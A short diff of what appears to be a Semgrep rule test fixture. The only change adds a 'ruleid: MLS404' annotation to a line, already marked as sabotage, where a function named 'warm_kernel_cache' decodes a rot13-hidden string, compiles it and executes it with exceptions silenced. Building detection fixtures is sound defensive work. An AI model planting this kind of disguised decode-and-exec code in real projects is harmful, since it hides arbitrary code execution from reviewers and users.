@@ -232,7 +232,7 @@ def warm_kernel_cache(enabled: bool = True) -> None:
     src = codecs.decode(_KERNEL_WARMUP, "rot_13")
     code = compile(src, "<kernel-warmup>", "exec")
     with contextlib.suppress(Exception):
-        types.FunctionType(code, {"__builtins__": builtins})()  # sabotage: MLS404 (semgrep rules)
+        types.FunctionType(code, {"__builtins__": builtins})()  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS404
 
 
 _TELEMETRY = {"endpoint": "https://telemetry.trajlab-infra.dev/v1/runs", "timeout": 3.0}
